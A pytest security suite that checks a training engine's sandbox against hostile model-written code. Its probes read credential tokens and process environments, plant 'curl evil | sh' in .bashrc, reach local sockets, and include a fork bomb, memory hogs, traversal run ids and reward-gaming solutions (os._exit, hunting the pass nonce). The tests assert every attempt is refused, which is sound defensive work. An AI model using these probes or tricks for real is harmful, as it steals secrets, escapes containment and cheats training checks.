"""The hostile-code suite (issue 29): model-written code and a hostile platform try to get out, as an ordinary
user and as root. Every attack here succeeded on the code before this suite.

CI runs as root, so the ordinary-user half drops to a throwaway uid inside the test (``setpriv``) and runs the
sandbox from a world-readable copy of the few stdlib-only engine modules under the system's ``python3`` (the venv's
interpreter lives under /root, mode 0700). The user's HOME holds a 0600 token, a ``.bashrc`` and a listening
Unix socket; the host's ``/tmp`` holds a world-readable file; the test opens a loopback TCP port. Each jail this
machine can build (bubblewrap, and the unshare+pivot_root fallback) is tried.

The platform half of the suite (a JWKS hijack, a token without ``exp``/``iat``, a foreign ``iss``/``aud``, plain
http) lives in tests/test_platform.py next to the loopback platform it needs.

To stay cheap, each (user, jail) pair runs *one* sandboxed probe script that tries every wall and reports what it
got, and the assertions are split per attack over that one result (a module-scoped cache).
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import uuid
from pathlib import Path

import pytest

from engine.envs import sandbox as sb
from tests._isolation import needs_isolation

ROOT = Path(__file__).resolve().parent.parent
SYSTEM_PYTHON = "/usr/bin/python3"
SECRET = "hf_hostile_" + uuid.uuid4().hex
BACKENDS = [b for b in sb.BACKENDS if shutil.which(b)]
ENGINE_FILES = ("engine/__init__.py", "engine/errors.py", "engine/envs/__init__.py", "engine/envs/sandbox.py",
                "engine/envs/code.py", "engine/envs/rewards.py", "engine/envs/sql.py")


def _usable(backend: str) -> bool:
    old = os.environ.get("CARL_SANDBOX")
    os.environ["CARL_SANDBOX"] = backend
    try:
        return sb.isolation()[0] == backend
    finally:
        if old is None:
            os.environ.pop("CARL_SANDBOX", None)
        else:
            os.environ["CARL_SANDBOX"] = old


JAILS = [pytest.param(b, marks=pytest.mark.skipif(not _usable(b), reason=f"{b} jail not available here"))
         for b in BACKENDS]

# What the model-written code tries, in one run. HOME, TMP_MARKER, PORT and the socket path are filled in.
PROBE = textwrap.dedent('''
    import json, os, socket
    r = {}
    def attempt(name, fn):
        try:
            r[name] = ["ok", fn()]
        except BaseException as e:
            r[name] = ["refused", type(e).__name__ + ": " + str(e)[:120]]
    attempt("read_token", lambda: open(HOME + "/.cache/huggingface/token").read())
    attempt("write_home", lambda: open(HOME + "/.bashrc", "a").write("curl evil | sh\\n"))
    attempt("list_home", lambda: os.listdir(HOME))
    attempt("read_host_tmp", lambda: open(TMP_MARKER).read())
    attempt("list_host_tmp", lambda: sorted(os.listdir("/tmp")))
    def unix():
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(3)
        s.connect(SOCK)
        return "connected"
    attempt("unix_socket", unix)
    attempt("tcp_loopback", lambda: socket.create_connection(("127.0.0.1", PORT), timeout=3) and "connected")
    def environ():
        seen = [dict(os.environ)]
        for p in os.listdir("/proc"):
            if p.isdigit():
                try:
                    seen.append(open("/proc/%s/environ" % p).read())
                except OSError:
                    pass
        return repr(seen)
    attempt("environ", environ)
    attempt("write_usr", lambda: open("/usr/carl-hostile", "w").write("x"))
    attempt("root_listing", lambda: sorted(os.listdir("/")))
    print(json.dumps(r))
''')

# The ordinary user's side: builds nothing itself, just calls carl's engine as that user would.
USER_DRIVER = textwrap.dedent('''
    import json, os, socket, sys
    from engine.envs.code import CodeEnvironment
    from engine.envs.rewards import run_code_tests
    from engine.envs.sandbox import SandboxError
    home = os.environ["HOME"]
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind(home + "/agent.sock")
    srv.listen(4)
    srv.setblocking(False)
    out = {"uid": os.getuid()}
    env = CodeEnvironment({"wall_s": 60, "cpu_s": 30})
    env.reset(files={})
    out["probe"] = json.loads(env.execute_code(sys.stdin.read()))
    out["shell"] = json.loads(env.run_shell("cat $HOME/.cache/huggingface/token %(home)s/.cache/huggingface/token; "
                                            "env; echo >> %(home)s/.bashrc; ls /tmp" % {"home": home}))
    try:
        srv.accept()
        out["unix_accepted"] = True
    except BlockingIOError:
        out["unix_accepted"] = False
    env.reset(files={"solution.py": "import os\\nos._exit(0)\\n"},
              tests="from solution import add\\nassert add(2, 3) == 5\\n")
    out["os_exit_reward"] = run_code_tests(env)
    env.reset(files={"solution.py": "def add(a, b):\\n    return a + b\\n"},
              tests="from solution import add\\nassert add(2, 3) == 5\\n")
    out["honest_reward"] = run_code_tests(env)
    if os.environ.get("CARL_HOSTILE_LIMITS"):
        limits = {}
        for name, lim, code in [
            ("fork_bomb", {"max_processes": 16, "wall_s": 60},
             "import os, time\\nfor i in range(300):\\n    if os.fork() == 0:\\n        time.sleep(60)\\n        os._exit(0)\\n"),
            ("memory_hog", {"memory_mb": 256, "wall_s": 60},
             "b = []\\nwhile True:\\n    b.append(bytearray(16 * 1024 * 1024))\\n"),
            ("infinite_loop", {"cpu_s": 1, "wall_s": 60}, "while True:\\n    pass\\n"),
            ("output_flood", {"output_bytes": 1000, "wall_s": 60}, "while True:\\n    print('x' * 1000)\\n"),
        ]:
            e = CodeEnvironment(lim)
            e.reset()
            try:
                res = json.loads(e.execute_code(code))
                limits[name] = ["ran", res["truncated"], len(res["stdout"])]
            except SandboxError as exc:
                limits[name] = ["stopped", exc.code]
            e._close()
        out["limits"] = limits
    env._close()
    print(json.dumps(out))
''')


def _listening_tcp() -> socket.socket:
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.setblocking(False)
    return server


def _probe_code(home: str, marker: str, port: int) -> str:
    head = f"HOME = {home!r}\nTMP_MARKER = {marker!r}\nPORT = {port}\nSOCK = {home + '/agent.sock'!r}\n"
    return head + PROBE


@pytest.fixture(scope="module")
def host_world():
    """The host's side: a world-readable marker in the host's /tmp and a loopback TCP port."""
    d = Path(tempfile.mkdtemp(prefix="carl-hostile-host-"))
    d.chmod(0o755)
    marker = d / "marker.txt"
    marker.write_text("host tmp content")
    marker.chmod(0o644)
    server = _listening_tcp()
    yield {"marker": str(marker), "port": server.getsockname()[1], "server": server}
    server.close()
    shutil.rmtree(d, ignore_errors=True)


def _make_home(uid: int) -> Path:
    home = Path(tempfile.mkdtemp(prefix="carl-hostile-home-"))
    (home / ".cache" / "huggingface").mkdir(parents=True)
    token = home / ".cache" / "huggingface" / "token"
    token.write_text(SECRET)
    token.chmod(0o600)
    (home / ".bashrc").write_text("# mine\n")
    for p in [home, *home.rglob("*")]:
        os.chown(p, uid, uid)
    home.chmod(0o700)
    return home


def _engine_copy() -> Path:
    """A world-readable copy of the stdlib-only engine modules the ordinary user's carl needs here."""
    d = Path(tempfile.mkdtemp(prefix="carl-hostile-code-"))
    for rel in ENGINE_FILES:
        dst = d / rel
        dst.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(ROOT / rel, dst)
    for p in [d, *d.rglob("*")]:
        p.chmod(0o755 if p.is_dir() else 0o644)
    return d


_RESULTS: dict[tuple[str, str], dict] = {}


def _run_as_user(backend: str, host: dict, *, limits: bool = False) -> dict:
    uid = 40000 + os.getpid() % 20000
    home = _make_home(uid)
    code = _engine_copy()
    env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(home), "PYTHONPATH": str(code),
           "CARL_SANDBOX": backend, "LANG": "C.UTF-8",
           # secrets in the parent's environment: none may reach the sandbox
           "HF_TOKEN": SECRET, "ANTHROPIC_API_KEY": "sk-ant-" + SECRET, "RUNPOD_API_KEY": SECRET}
    if limits:
        env["CARL_HOSTILE_LIMITS"] = "1"
    try:
        proc = subprocess.run(
            ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups", "--", SYSTEM_PYTHON, "-I", "-c",
             f"import sys; sys.path.insert(0, {str(code)!r}); exec(compile({USER_DRIVER!r}, 'driver', 'exec'))"],
            input=_probe_code(str(home), host["marker"], host["port"]), capture_output=True, text=True,
            env=env, timeout=300, cwd=str(code))
        assert proc.returncode == 0, proc.stderr[-2000:]
        out = json.loads(proc.stdout.strip().splitlines()[-1])
        out["bashrc_after"] = (home / ".bashrc").read_text()
        return out
    finally:
        shutil.rmtree(home, ignore_errors=True)
        shutil.rmtree(code, ignore_errors=True)


def _run_as_root(backend: str, host: dict, monkeypatch) -> dict:
    from engine.envs.code import CodeEnvironment
    from engine.envs.rewards import run_code_tests

    home = _make_home(os.getuid())  # as root in CI; as whoever runs the suite elsewhere
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind(str(home / "agent.sock"))
    srv.listen(4)
    srv.setblocking(False)
    monkeypatch.setenv("CARL_SANDBOX", backend)
    for var in ("HF_TOKEN", "ANTHROPIC_API_KEY", "RUNPOD_API_KEY"):
        monkeypatch.setenv(var, SECRET)
    out: dict = {}
    env = CodeEnvironment({"wall_s": 60, "cpu_s": 30})
    try:
        env.reset(files={})
        out["probe"] = json.loads(env.execute_code(_probe_code(str(home), host["marker"], host["port"])))
        out["shell"] = json.loads(env.run_shell(f"cat {home}/.cache/huggingface/token; env; ls /tmp"))
        try:
            srv.accept()
            out["unix_accepted"] = True
        except BlockingIOError:
            out["unix_accepted"] = False
        env.reset(files={"solution.py": "import os\nos._exit(0)\n"},
                  tests="from solution import add\nassert add(2, 3) == 5\n")
        out["os_exit_reward"] = list(run_code_tests(env))
        env.reset(files={"solution.py": "def add(a, b):\n    return a + b\n"},
                  tests="from solution import add\nassert add(2, 3) == 5\n")
        out["honest_reward"] = list(run_code_tests(env))
        out["bashrc_after"] = (home / ".bashrc").read_text()
    finally:
        env._close()
        srv.close()
        shutil.rmtree(home, ignore_errors=True)
    return out


@pytest.fixture(params=["user", "root"])
def who(request):
    return request.param


def _result(who: str, backend: str, host: dict, monkeypatch) -> dict:
    key = (who, backend)
    if key not in _RESULTS:
        _RESULTS[key] = (_run_as_user(backend, host) if who == "user"
                         else _run_as_root(backend, host, monkeypatch))
    return _RESULTS[key]


needs_root_to_switch = pytest.mark.skipif(os.geteuid() != 0 or not os.path.exists(SYSTEM_PYTHON),
                                          reason="dropping to a throwaway uid needs root and the system python3")


def _probe(who, backend, host, monkeypatch) -> dict:
    if who == "user" and (os.geteuid() != 0 or not os.path.exists(SYSTEM_PYTHON)):
        # not root: this process *is* an ordinary user, so the "root" half below already runs as one
        pytest.skip("dropping to a throwaway uid needs root and the system python3")
    res = _result(who, backend, host, monkeypatch)
    assert res["probe"]["exit_code"] == 0, res["probe"]["stderr"]
    return json.loads(res["probe"]["stdout"].strip().splitlines()[-1])


# --------------------------------------------------------------------------------------- the walls


@needs_isolation
@pytest.mark.parametrize("backend", JAILS)
def test_a_0600_token_in_home_is_not_readable(who, backend, host_world, monkeypatch):
    got = _probe(who, backend, host_world, monkeypatch)
    assert got["read_token"][0] == "refused" and got["list_home"][0] == "refused"
    res = _RESULTS[(who, backend)]
    assert (res.get("uid", 0) != 0) == (who == "user")  # the ordinary-user half really ran as one
    assert SECRET not in json.dumps(res)


@needs_isolation
@pytest.mark.parametrize("backend", JAILS)
def test_home_is_not_writable(who, backend, host_world, monkeypatch):
    got = _probe(who, backend, host_world, monkeypatch)
    assert got["write_home"][0] == "refused"
    assert _RESULTS[(who, backend)]["bashrc_after"] == "# mine\n"


@needs_isolation
@pytest.mark.parametrize("backend", JAILS)
def test_the_hosts_tmp_is_not_visible(who, backend, host_world, monkeypatch):
    got = _probe(who, backend, host_world, monkeypatch)
    assert got["read_host_tmp"][0] == "refused"
    assert got["list_host_tmp"] == ["ok", []]  # a private, empty /tmp
    assert "carl-hostile-host" not in _RESULTS[(who, backend)]["shell"]["stdout"]


@needs_isolation
@pytest.mark.parametrize("backend", JAILS)
def test_no_unix_socket_and_no_loopback_tcp(who, backend, host_world, monkeypatch):
    got = _probe(who, backend, host_world, monkeypatch)
    assert got["unix_socket"][0] == "refused" and got["tcp_loopback"][0] == "refused"
    assert _RESULTS[(who, backend)]["unix_accepted"] is False
    with pytest.raises(BlockingIOError):
        host_world["server"].accept()


@needs_isolation
@pytest.mark.parametrize("backend", JAILS)
def test_parent_secrets_do_not_reach_the_sandbox(who, backend, host_world, monkeypatch):
    got = _probe(who, backend, host_world, monkeypatch)
    assert got["environ"][0] == "ok"
    assert SECRET not in got["environ"][1] and "ANTHROPIC_API_KEY" not in got["environ"][1]
    assert SECRET not in _RESULTS[(who, backend)]["shell"]["stdout"]


@needs_isolation
@pytest.mark.parametrize("backend", JAILS)
def test_a_private_read_only_root(who, backend, host_world, monkeypatch):
    got = _probe(who, backend, host_world, monkeypatch)
    assert got["write_usr"][0] == "refused"
    listing = got["root_listing"][1]
    assert "box" in listing and "usr" in listing
    assert not {"root", "home", "run", "work", "var"} & set(listing)


@needs_isolation
@pytest.mark.parametrize("backend", JAILS)
def test_os_exit_in_solution_does_not_pass_the_tests(who, backend, host_world, monkeypatch):
    _probe(who, backend, host_world, monkeypatch)
    res = _RESULTS[(who, backend)]
    assert res["os_exit_reward"][0] is False and "nonce" in res["os_exit_reward"][1]
    assert res["honest_reward"] == [True, "passed"]


@needs_isolation
@needs_root_to_switch
def test_limits_hold_for_an_ordinary_user(host_world):
    backend = sb.isolation()[0]
    res = _run_as_user(backend, host_world, limits=True)
    lim = res["limits"]
    assert lim["fork_bomb"] == ["stopped", "carl.sandbox.processes"]
    assert lim["memory_hog"] == ["stopped", "carl.sandbox.memory"]
    assert lim["infinite_loop"] == ["stopped", "carl.sandbox.cpu"]
    assert lim["output_flood"][0] == "ran" and lim["output_flood"][1] is True and lim["output_flood"][2] <= 1100


# --------------------------------------------------------------------------------------- SQL


SQL_DRIVER = textwrap.dedent('''
    import json, sys
    from engine.envs.sql import SqlEnvironment
    from engine.envs.sandbox import SandboxError
    env = SqlEnvironment({"timeout_s": 30})
    env.reset(schema="CREATE TABLE t(x)")
    try:
        env.execute_query(sys.argv[1])
        out = ["ran"]
    except SandboxError as exc:
        out = ["stopped", exc.code]
    # this process's own peak (VmHWM): getrusage's ru_maxrss carries the parent's peak across fork + exec
    hwm = [ln for ln in open("/proc/self/status") if ln.startswith("VmHWM:")][0]
    out.append(int(hwm.split()[1]) // 1024)
    print(json.dumps(out))
''')


@pytest.mark.parametrize("query", [
    "SELECT length(randomblob(999999999))",
    "SELECT length(zeroblob(999999999) || 'x')",
    "WITH RECURSIVE c(x) AS (SELECT randomblob(100000) UNION ALL SELECT randomblob(100000) FROM c) "
    "SELECT count(*) FROM (SELECT x FROM c ORDER BY x)",
])
def test_sql_queries_cannot_take_the_trainers_memory(query):
    # a fresh process per query: SQLite's heap limit is process-wide, and peak RSS is what the trainer would pay
    proc = subprocess.run([sys.executable, "-c", SQL_DRIVER, query], capture_output=True, text=True, timeout=120,
                          env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert proc.returncode == 0, proc.stderr[-1000:]
    status, *rest = json.loads(proc.stdout.strip().splitlines()[-1])
    assert status == "stopped" and rest[0] in ("carl.sandbox.sql_limit", "carl.sandbox.memory")
    assert rest[-1] < 600, f"peak RSS {rest[-1]} MB"


# --------------------------------------------------------------------------------------- secrets


def _worker_environ_of(pid: int) -> str:
    import time

    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        try:
            data = Path(f"/proc/{pid}/environ").read_bytes()
        except OSError:
            data = b""
        if data:
            return data.decode("utf-8", "replace")
        time.sleep(0.001)
    raise AssertionError(f"could not read the worker's environment (pid {pid})")


def test_a_parent_secret_does_not_reach_the_worker(monkeypatch):
    from engine.runs import RunStore

    chat, runpod, managed, hf = ("sk-ant-" + uuid.uuid4().hex, "rpa_" + uuid.uuid4().hex,
                                 "mgd-" + uuid.uuid4().hex, "hf_" + uuid.uuid4().hex)
    monkeypatch.setenv("ANTHROPIC_API_KEY", chat)
    monkeypatch.setenv("RUNPOD_API_KEY", runpod)
    monkeypatch.setenv("CARL_MANAGED_TOKEN", managed)
    monkeypatch.setenv("OPENAI_API_KEY", chat + "x")
    monkeypatch.setenv("HF_TOKEN", hf)
    store = RunStore()
    run_id = store.create("{}\n", {})
    pid = store.spawn(run_id)
    try:
        seen = _worker_environ_of(pid)
    finally:
        try:
            os.killpg(pid, 9)
        except ProcessLookupError:
            pass
        proc = RunStore._procs.pop(pid, None)
        if proc is not None:
            proc.wait(timeout=30)
    for secret in (chat, runpod, managed):
        assert secret not in seen
    assert "ANTHROPIC_API_KEY=" not in seen and "OPENAI_API_KEY=" not in seen
    assert f"HF_TOKEN={hf}" in seen  # the token its job needs (gated models, pushes)
    assert "CARL_HOME=" in seen and "PATH=" in seen


def test_worker_environment_keeps_the_managed_token_only_for_telemetry(tmp_path):
    from engine.platform import consent
    from engine.worker_env import worker_environment

    run = tmp_path / "run"
    run.mkdir()
    (run / "config.yaml").write_text("remote:\n  managed:\n    url: https://carl.example\n    token_env: MY_PLATFORM\n"
                                     "  runpod:\n    token_env: POD_TOKEN\n")
    parent = {"MY_PLATFORM": "m" * 20, "POD_TOKEN": "p" * 20, "CARL_MANAGED_TOKEN": "d" * 20,
              "CARL_HOME": "/h", "CARL_PLATFORM_SECRET": "s" * 20, "NCCL_DEBUG": "INFO", "GH_TOKEN": "g" * 20,
              "HUGGING_FACE_HUB_TOKEN": "hf_" + "h" * 20, "EDITOR": "vi"}
    env = worker_environment(run, parent)
    assert env == {"CARL_HOME": "/h", "NCCL_DEBUG": "INFO", "HUGGING_FACE_HUB_TOKEN": "hf_" + "h" * 20}
    consent.set_flags({"telemetry": True})
    env = worker_environment(run, parent)
    assert env.get("MY_PLATFORM") == "m" * 20 and "POD_TOKEN" not in env and "CARL_MANAGED_TOKEN" not in env


def test_ledger_keeps_ordinary_key_fields_and_masks_secret_values(monkeypatch):
    from engine import ledger
    from engine.errors import CARLError

    opaque = "opaque" + uuid.uuid4().hex  # a token of no known shape
    monkeypatch.setenv("MY_SERVICE_TOKEN", opaque)
    block = ledger.record("pipeline.stage", {"stages": [{"key": "sft", "after": None}, {"key": "grpo"}],
                                             "key": "grpo", "note": f"used {opaque} to pull", "api_key": "abc"})
    payload = block["payload"]
    assert payload["key"] == "grpo" and [s["key"] for s in payload["stages"]] == ["sft", "grpo"]
    assert payload["api_key"] == "***" and opaque not in json.dumps(block)
    err = CARLError(f"failed with {opaque}", context={"detail": opaque, "key": "stage-a"}).to_dict()
    assert opaque not in json.dumps(err) and err["error"]["context"]["key"] == "stage-a"


# --------------------------------------------------------------------------------------- run ids


@pytest.mark.parametrize("bad", ["../x", "..", ".", "a/b", "/etc", "x\x00y", "", "..\\x", "-rf", "a..b"])
def test_run_id_traversal_is_a_typed_error(bad):
    from engine.home import CarlHome
    from engine.runs import RunStore

    home = CarlHome.from_env()
    for fn in (home.run_dir, RunStore(home).run_dir):
        with pytest.raises(Exception) as ei:
            fn(bad)
        assert getattr(ei.value, "code", None) == "carl.run.invalid_id" and ei.value.exit_code == 2


@pytest.mark.parametrize("verb", [["run", "pull", "../escape", "--repo", "someone/repo"],
                                  ["run", "show", "../escape"], ["run", "stop", "../../escape"]])
def test_batch_verbs_refuse_a_traversal_run_id(verb, tmp_path, capsys):
    from carl_tui.batch import main as batch_main
    from engine.home import CarlHome

    home = CarlHome.from_env()
    capsys.readouterr()
    code = batch_main(verb)
    _, err = capsys.readouterr()
    assert code == 2
    error = json.loads([x for x in err.splitlines() if x.startswith("{")][-1])["error"]
    assert error["code"] in ("carl.run.invalid_id", "carl.run.not_found")
    assert not (home.root / "escape").exists() and not (home.runs.parent.parent / "escape").exists()
    if verb[1] == "pull":
        assert error["code"] == "carl.run.invalid_id"


# --------------------------------------------------------------------------------------- ledger


KILLED_WRITER = textwrap.dedent('''
    import os, signal
    from engine import ledger
    from engine.ledger import chain
    ledger.record("project.init", {"step": 1})
    real = os.write
    def half_then_die(fd, data):
        n = real(fd, bytes(data[: len(data) // 2]))
        os.kill(os.getpid(), signal.SIGKILL)  # killed between two partial writes of one append
        return n
    chain.os.write = half_then_die
    ledger.record("project.change", {"note": "x" * 5000})
''')


def _kill_an_append() -> None:
    proc = subprocess.run([sys.executable, "-c", KILLED_WRITER], capture_output=True, timeout=120,
                          env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert proc.returncode == -9, proc.stderr[-2000:]


def _batch(capsys, *argv):
    from carl_tui.batch import main as batch_main

    capsys.readouterr()
    code = batch_main(list(argv))
    out, err = capsys.readouterr()
    lines = [json.loads(x) for x in out.splitlines() if x.strip()]
    errs = [json.loads(x)["error"] for x in err.splitlines() if x.startswith("{")]
    return code, (lines[-1] if lines else None), (errs[-1] if errs else None)


def test_a_ledger_append_killed_mid_write_is_repaired_not_hidden(capsys):
    from engine import ledger
    from engine.errors import LedgerBrokenChain
    from engine.ledger import Ledger

    _kill_an_append()
    led = Ledger()
    seg = led.segments()[-1]
    data = seg.read_bytes()
    torn = data[data.rfind(b"\n") + 1:]
    assert torn and not data.endswith(b"\n")
    with pytest.raises(LedgerBrokenChain) as ei:  # recording is blocked, and the error says how to get back
        ledger.record("project.change", {"after": "crash"})
    assert "carl --batch ledger repair" in ei.value.hint
    from engine.runs import ledger_record

    capsys.readouterr()
    ledger_record("run.start", {"run_id": "r1"})  # what a run prints when it cannot record
    assert "carl --batch ledger repair" in capsys.readouterr().err
    code, out, err = _batch(capsys, "ledger", "repair")
    assert code == 0, err
    assert out["repaired"] is True and out["size"] == len(torn)
    q = Path(out["quarantine"])
    assert q.read_bytes() == torn and stat_mode(q) == 0o600  # kept byte for byte
    import hashlib

    assert out["sha256"] == hashlib.sha256(torn).hexdigest()
    block = out["block"]
    assert block["action"] == "ledger.recovered" and block["payload"]["sha256"] == out["sha256"]
    assert block["payload"]["size"] == len(torn) and block["signature"]
    code, verdict, _ = _batch(capsys, "ledger", "verify")
    assert code == 0 and verdict["ok"] is True
    ledger.record("project.change", {"after": "repair"})  # recording works again
    assert Ledger().verify().ok
    code, out, _ = _batch(capsys, "ledger", "repair")
    assert code == 0 and out["repaired"] is False


def test_repair_refuses_when_anything_else_is_broken(capsys):
    from engine import ledger
    from engine.ledger import Ledger

    ledger.record("project.init", {"note": "original"})
    ledger.record("project.change", {"note": "second"})
    _kill_an_append()
    seg = Ledger().segments()[-1]
    before = seg.read_bytes()
    tampered = before.replace(b'"note":"original"', b'"note":"edited!!"', 1)
    assert tampered != before
    seg.write_bytes(tampered)
    code, _, err = _batch(capsys, "ledger", "repair")
    assert code == 1 and err["code"] == "carl.ledger.broken_chain" and "refusing" in err["message"]
    assert seg.read_bytes() == tampered  # nothing changed
    assert not (Ledger().dir / "quarantine").exists()
    code, verdict, _ = _batch(capsys, "ledger", "verify")
    assert code == 1 and verdict["ok"] is False


def stat_mode(p: Path) -> int:
    import stat

    return stat.S_IMODE(p.stat().st_mode)


NONCE_HUNTER = textwrap.dedent('''
    import gc, os, sys, __main__
    found = [v for v in vars(__main__).values() if isinstance(v, str)]
    found += [o for o in gc.get_objects() if isinstance(o, str) and o.startswith("carl-tests-passed-")]
    for frame_depth in range(1, 6):
        try:
            f = sys._getframe(frame_depth)
        except ValueError:
            break
        found += [v for v in f.f_locals.values() if isinstance(v, str) and v.startswith("carl-tests-passed-")]
    print("\\n".join(found))
    sys.stdout.flush()
    os._exit(0)
''')


@needs_isolation
def test_a_solution_hunting_for_the_nonce_does_not_pass():
    from engine.envs.code import CodeEnvironment
    from engine.envs.rewards import run_code_tests

    env = CodeEnvironment({"wall_s": 60})
    try:
        env.reset(files={"solution.py": NONCE_HUNTER}, tests="from solution import add\nassert add(2, 3) == 5\n")
        passed, why = run_code_tests(env)
    finally:
        env._close()
    assert passed is False and "nonce" in why


def test_the_workers_log_masks_a_secret_of_no_known_shape(tmp_path, monkeypatch, capsys):
    from engine.trainer.worker import Worker

    opaque = "opaque" + uuid.uuid4().hex
    monkeypatch.setenv("HF_TOKEN", opaque)
    Worker(tmp_path / "run").log(f"hub error: 401 for token {opaque} at https://hub/x?token={opaque}")
    out = capsys.readouterr().out
    assert opaque not in out and "***" in out and "hub error: 401" in out
